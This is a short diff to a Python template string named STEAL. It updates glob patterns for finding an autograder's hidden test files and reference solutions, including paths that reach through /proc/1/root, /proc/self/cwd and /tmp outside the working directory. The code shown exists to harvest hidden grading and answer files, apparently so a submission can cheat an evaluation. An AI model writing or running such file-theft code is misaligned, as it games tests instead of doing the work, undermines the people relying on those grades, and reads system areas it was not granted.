@@ -17,9 +17,9 @@ STEAL = """
 import glob, os
 PATHS = {paths!r}
 MARKERS = {markers!r}
-PATTERNS = [{kit!r} + '/**/*.py', '/proc/1/root' + {kit!r} + '/autograder/hidden/*.py',
-            '/proc/*/cwd/**/*.py', '/proc/*/root' + {kit!r} + '/reference_solution/**/*.py',
-            '/tmp/**/*.py', '/root/**/hidden/*.py', '/opt/lesson/**/*.py', '/*/*/hidden/*.py',
+PATTERNS = [{kit!r} + '/autograder/**/*.py', {kit!r} + '/reference_solution/**/*.py',
+            '/proc/1/root' + {kit!r} + '/autograder/hidden/*.py', '/proc/self/cwd/*.py',
+            '/tmp/*/*.py', '/tmp/*/*/*/minilb/*.py', '/opt/lesson/**/*.py', '/*/*/hidden/*.py',
             '/*/*/reference_solution/minilb/*.py']
 def _read(path):
     try:
